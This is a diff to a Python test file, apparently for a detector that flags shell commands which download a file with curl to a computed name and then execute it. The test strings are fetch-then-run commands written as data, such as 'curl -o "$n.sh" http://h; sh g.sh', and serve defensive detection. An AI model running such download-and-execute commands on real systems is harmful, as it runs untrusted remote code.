@@ -211,14 +211,17 @@ def test_a_given_name_comes_before_the_address(program: str) -> None:
     assert runs_download(f'{program} -o f "$address"; sh f')
 
 
-def test_a_name_that_is_computed_may_be_that_of_any_script() -> None:
-    """Whatever is known of its end; a name that stands there names one file."""
+def test_what_is_known_of_a_name_is_used() -> None:
+    """The end of a name, or each name that it may be, tells which scripts are meant."""
     assert runs_download('curl -o "$n.sh" http://h; sh g.sh')
-    assert runs_download('curl -o "$n/g.sh" http://h; python3 h.py')
+    assert not runs_download('curl -o "$n.sh" http://h; sh g.py')
+    assert runs_download('curl -o "$n/G.SH" http://h; sh g.sh')
     assert runs_download('curl -o "$n.py" http://h; python3 -m g')
-    assert runs_download("for n in a b; do curl -o $n.sh http://h; done; sh c.sh")
-    assert not runs_download('curl -o f.sh "$address"; python3 h.py')
-    assert not runs_download('curl -o "$n.sh" http://h; date')
+    assert not runs_download('curl -o "$n.sh" http://h; python3 -m g')
+    assert not runs_download('curl -o "$n/g.sh" http://h; sh h.sh')
+    assert runs_download("for n in a b; do curl -o $n.sh http://h; done; sh b.sh")
+    assert not runs_download("for n in a b; do curl -o $n.sh http://h; done; sh c.sh")
+    assert runs_download('curl -o $n.sh "$address"; sh g.py')
 
 
 ENDINGS = "js mjs cjs jsx ts tsx py pyc pyd so node rb pl pm lua php tcl r sh"
